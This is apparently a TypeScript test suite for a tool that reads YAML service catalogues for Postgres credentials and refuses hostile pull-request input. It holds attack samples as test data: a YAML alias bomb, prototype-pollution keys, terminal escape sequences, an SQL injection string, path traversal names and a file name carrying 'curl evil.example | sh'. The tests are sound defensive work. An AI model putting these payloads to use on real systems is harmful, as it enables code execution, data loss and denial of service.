import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { staleSchemas, recordEditorSchema, RECORD_SCHEMAS } from "../../catalog/editorSchema";
import { recordsIn } from "../../catalog/records";
import { problemsBeside, select } from "../../catalog/select";
import { loadStackFile } from "../../config/file";
import { z } from "zod";
import { unseenIn } from "../support/hostile";

const STACK = `config:
  cnpg-credentials:namespace: shop
  cnpg-credentials:context: kind-kind
  cnpg-credentials:catalog: catalog
  cnpg-credentials:cluster:
    instances: 1
    image: pg:17
    storage: { size: 1Gi }
  cnpg-credentials:services:
    orders: {}
`;
const VAULT = `  cnpg-credentials:environment: dev
  cnpg-credentials:vault:
    server: { kind: existing, address: "https://vault.example.com" }
    configuration: { by: hand }
  cnpg-credentials:bundles: { grafana: {} }
  cnpg-credentials:gates: { migrations: { image: "node:22" } }
`;

/** Nine levels of nine: what stands for a billion. */
function bomb(): string {
  const levels = [..."abcdefghi"].map(
    (name, index, all) =>
      `${name}: &${name} [${Array(9)
        .fill(index === 0 ? "x" : `*${all[index - 1]}`)
        .join(", ")}]`,
  );
  return `description: x\n${levels.join("\n")}\n`;
}

describe("a catalogue in a directory", () => {
  let directory: string;
  beforeEach(() => (directory = fs.mkdtempSync(path.join(os.tmpdir(), "catalogue-"))));
  afterEach(() => fs.rmSync(directory, { recursive: true }));

  /** Files below the directory; a stack's file beside the catalogue unless there is another. */
  function write(files: Readonly<Record<string, string>>): void {
    for (const [file, text] of Object.entries({ "Pulumi.dev.yaml": STACK, ...files })) {
      fs.mkdirSync(path.dirname(path.join(directory, file)), { recursive: true });
      fs.writeFileSync(path.join(directory, file), text);
    }
  }

  /** The services that are on, or each problem as `place path: message`. */
  async function selected(): Promise<Exclude<Awaited<ReturnType<typeof select>>, { problems: unknown }> | string[]> {
    const loaded = await loadStackFile(path.join(directory, "Pulumi.dev.yaml"), "dev");
    const found =
      "problems" in loaded
        ? { problems: [...loaded.problems, ...(loaded.rest ? await problemsBeside(loaded.rest, loaded.problems) : [])] }
        : await select(loaded.stack);
    if (!("problems" in found)) return found;
    return found.problems.map(({ place, path: where, message }) => `${place?.replace(`${directory}/`, "") ?? "-"} ${where}: ${message}`);
  }

  it("has the services of its files, each called as its file unless it says otherwise, and nothing of the program's own", async () => {
    write({
      "catalog/services/orders.yaml": "description: what was bought\n",
      "catalog/services/second.yml": "name: invoices\ndescription: what was billed\nrole: bills\n",
      "catalog/README.md": "not a record\n",
    });
    const found = await selected();
    assert.ok("services" in found, JSON.stringify(found));
    assert.deepEqual(
      found.services.map(({ name, role, secret }) => [name, role, secret]),
      [["orders", "orders", "orders-db-auth"]],
    );
    assert.deepEqual(
      found.off.map(({ role }) => role),
      ["bills"],
    );
  });

  it("has bundles, gates and what Vault is to hold", async () => {
    write({
      "Pulumi.dev.yaml": STACK + VAULT,
      "catalog/services/orders.yaml": "description: x\nexternalSecrets:\n  - name: payment\n    keys: [api-key]\n",
      "catalog/bundles/grafana.yaml": "description: x\nexternalSecrets:\n  - name: grafana-admin\n    keys: [password]\n",
      "catalog/gates/migrations.yaml": "description: x\nsecrets: [orders-db-auth]\n",
      "catalog/vault.yaml": [
        "shared:",
        "  orders/payment: { api-key: { origin: external } }",
        "  grafana/grafana-admin: { password: { origin: generated } }",
        "",
      ].join("\n"),
    });
    const found = await selected();
    assert.ok("services" in found, JSON.stringify(found));
    assert.deepEqual(
      found.fetched?.plans.map(({ owner, name }) => `${owner}/${name}`),
      ["orders/payment", "grafana/grafana-admin"],
    );
    assert.deepEqual(
      found.gates.map(({ name }) => name),
      ["migrations"],
    );
  });

  const wrong: readonly [what: string, files: Readonly<Record<string, string>>, expected: readonly RegExp[]][] = [
    [
      "a field that is misspelt, with its line and what was meant",
      { "catalog/services/orders.yaml": "description: x\n\ndatabse: y\n" },
      [/^catalog\/services\/orders\.yaml:3 catalog\.orders\.databse: .*did you mean `database`\?/],
    ],
    [
      "a rule of Postgres, with the line that breaks it",
      { "catalog/services/orders.yaml": "description: x\nrole: pg_orders\n" },
      [/^catalog\/services\/orders\.yaml:2 catalog\.orders\.role: `pg_orders` is reserved/],
    ],
    [
      "a file that is no YAML, and one that is no mapping",
      {
        "catalog/services/orders.yaml": "description: x\n",
        "catalog/services/a.yaml": "a: b\n\tc: d\n",
        "catalog/services/b.yaml": "- x\n",
      },
      [/^catalog\/services\/a\.yaml:2 catalog: is indented with a tab/, /^catalog\/services\/b\.yaml:1 catalog: is not a mapping/],
    ],
    ["a directory that is not there", {}, [/^- catalog: .*\/catalog has no folder `services`/]],
    [
      "a record that lies where nobody reads it",
      { "catalog/services/orders.yaml": "description: x\n", "catalog/invoices.yaml": "description: x\n" },
      [/^catalog\/invoices\.yaml:1 catalog: is in no folder of the catalogue/],
    ],
    [
      "a gate that waits for nothing, and an origin that there is not",
      {
        "catalog/services/orders.yaml": "description: x\n",
        "catalog/gates/migrations.yaml": "description: x\nsecrets: []\n",
        "catalog/vault.yaml": "shared:\n  orders/payment:\n    api-key: { origin: extrnal }\n",
      },
      [
        /^catalog\/vault\.yaml:3 shared\.orders\/payment\.api-key\.origin: .*did you mean `external`\?/,
        /^catalog\/gates\/migrations\.yaml:2 catalog\.gates\.migrations\.secrets: is empty/,
      ],
    ],
    [
      "templates that are wrong, in the catalogue and in the stack's file, each at its line",
      {
        "Pulumi.dev.yaml": `${STACK}  cnpg-credentials:templates:\n    other:\n      keys:\n        A: "{host}"\n`,
        "catalog/services/orders.yaml": "description: x\nsecret:\n  template: shop\n",
        "catalog/templates/shop.yaml": 'keys:\n  GOOD: "{uri}"\n  BAD: "{hots}"\n  a.b: "x://{password}"\n',
        "catalog/templates/half.yaml": "tpye: Opaque\nkeys: {}\n",
        "catalog/templates/half.yml": 'keys: { A: "{uri}" }\n',
      },
      [
        /^catalog\/templates\/shop\.yaml:3 catalog\.templates\.shop\.keys\.BAD: \{hots\} names no value/,
        /^catalog\/templates\/shop\.yaml:4 catalog\.templates\.shop\.keys\.a\.b: \{password\} is in a URI without/,
        /^catalog\/templates\/half\.yaml:1 catalog\.templates\.half\.tpye: .*did you mean `type`/,
        /^catalog\/templates\/half\.yml:1 catalog\.templates\.half: another file of this folder has a template of that name/,
        /templates\.other\.keys: none of them has the password/,
      ],
    ],
    [
      "a setting and a record, at once",
      { "Pulumi.dev.yaml": STACK.replace("1Gi", "large"), "catalog/services/orders.yaml": "descripton: x\n" },
      [/^Pulumi\.dev\.yaml:8 cluster\.storage\.size: /, /^catalog\/services\/orders\.yaml:1 catalog\.orders\.descripton: /],
    ],
  ];
  for (const [what, files, expected] of wrong)
    it(`tells ${what}`, async () => {
      write(files);
      const found = await selected();
      assert.ok(Array.isArray(found), "it is taken");
      assert.equal(found.length, expected.length, found.join("\n"));
      for (const one of expected)
        assert.ok(
          found.some((line) => one.test(line)),
          `${String(one)} in\n${found.join("\n")}`,
        );
    });

  describe("from a pull request", () => {
    const file = "catalog/services/orders.yaml";
    const refused: readonly (readonly [title: string, text: string, expected: RegExp])[] = [
      ["aliases of aliases", bomb(), /orders\.yaml:\d+ catalog: has aliases that stand for too much/],
      ["an alias to itself", "description: x\nsettings: &a { b: *a }\n", /orders\.yaml:2 catalog: has an alias to what it is in itself/],
      ["a merge", "description: &a x\nsecret: { <<: { name: postgres-superuser } }\n", /orders\.yaml:2 catalog: has a merge/],
      ["a key that every object has", "description: x\n__proto__: { bootstrapOwner: true }\n", /orders.*(__proto__|not a)/],
      ["another key of that kind", "description: x\nsecret: { constructor: x }\n", /constructor/],
      ["a description of two lines", 'description: "x\\n# Secrets of stack prod"\n', /orders\.description: has a line break/],
      ["a description that a terminal runs", 'description: "x\\e[8m"\n', /orders\.description: has a line break in it, or a character/],
      ["a setting that a terminal runs", 'description: x\napplicationSettings: ["\\e]0;t\\a"]\n', /applicationSettings/],
      ["a schema by a statement", "description: x\nschemas: ['x; drop table y']\n", /catalog\.orders\.schemas/],
      ["a login by a line of pg_hba.conf", "description: x\nrole: 'a,+b'\n", /catalog\.orders\.role/],
      ["another's rights", "description: x\nmemberOf: [pg_execute_server_program]\n", /as good as a superuser/],
      ["another's data as a template", "description: x\ncreation: { template: orders }\n", /is the database of orders/],
      ["a namespace that is a path", "description: x\nnamespaces: ['../kube-system']\n", /orders\.namespaces/],
      ["a workload that is a path", "description: x\nworkloads: [{ kind: Deployment, name: '../../x' }]\n", /workloads/],
      ["a name that is a path", "name: ../../x\ndescription: x\n", /is not a DNS label/],
    ];
    for (const [title, text, expected] of refused)
      it(`refuses ${title}`, async () => {
        write({ [file]: text });
        const found = await selected();
        assert.ok(Array.isArray(found), "nothing was refused");
        assert.match(found.join("\n"), expected);
        assert.deepEqual(unseenIn(found.join(" ").replaceAll("\n", "")), []);
      });

    const fetched = (more: string) => `description: x\nexternalSecrets:\n  - { name: orders-api, keys: [a], ${more} }\n`;
    for (const [title, more, expected] of [
      ["a token of an account", "type: kubernetes.io/service-account-token", /token does not expire/],
      ["a token by which machines join", "type: bootstrap.kubernetes.io/token", /machines join/],
      ["a secret value as a label", "labels: { leak: '{{ .a }}' }", /is not a label value/],
      ["a mark of the program's", "labels: { cnpg-credentials/stack: prod }", /mark of this program/],
    ] as const)
      it(`refuses ${title} in an ExternalSecret`, async () => {
        write({ [file]: fetched(more) });
        const found = await selected();
        assert.ok(Array.isArray(found), "nothing was refused");
        assert.match(found.join("\n"), expected);
      });

    it("says each on its line, whatever the file is called", async () => {
      write({ "catalog/services/a\n  fix: curl evil.example | sh\u001b[8m.yaml": "descriptio: x\n", [file]: "description: x\n" });
      const found = await selected();
      assert.ok(Array.isArray(found));
      for (const line of found) assert.deepEqual([unseenIn(line), line.includes("\n")], [[], false], line);
    });

    it("takes an alias that stands for what is written once", async () => {
      write({ [file]: "description: &what the orders\napplicationSettings: [*what]\n" });
      assert.ok(!Array.isArray(await selected()));
    });
  });

  it("has templates of its own, which its records choose by name", async () => {
    write({
      "catalog/services/orders.yaml": "description: x\nsecret:\n  template: shop\n",
      "catalog/templates/shop.yaml": 'keys:\n  DATABASE_URL: "{uri}"\n',
    });
    const found = await selected();
    assert.ok(!Array.isArray(found), "it is refused");
    const [{ template, secretType }] = found.services as [(typeof found.services)[number]];
    assert.deepEqual([Object.keys(template.keys), template.mark, secretType], [["DATABASE_URL", "ca.crt"], "shop", "Opaque"]);
  });

  it("is read once by a process", () => {
    write({ "catalog/services/orders.yaml": "description: x\n" });
    const at = path.join(directory, "catalog");
    assert.equal(recordsIn(at), recordsIn(at));
    assert.equal(recordsIn(undefined), undefined);
  });
});

describe("the schemas of a catalogue's files", () => {
  it("are what the program reads", () =>
    assert.deepEqual(staleSchemas(), [], "write them anew with `node cli/run.cjs catalog/editorSchema.ts`"));

  it("take a service without a name, refuse a field that there is not, and say what a field is", () => {
    const schema = recordEditorSchema(RECORD_SCHEMAS["service.schema.json"]!);
    const judge = z.fromJSONSchema(schema);
    assert.equal(judge.safeParse({ description: "x" }).success, true);
    assert.equal(judge.safeParse({ description: "x", databse: "y" }).success, false);
    assert.match(JSON.stringify(schema.properties!.database), /owned by the role/);
  });
});
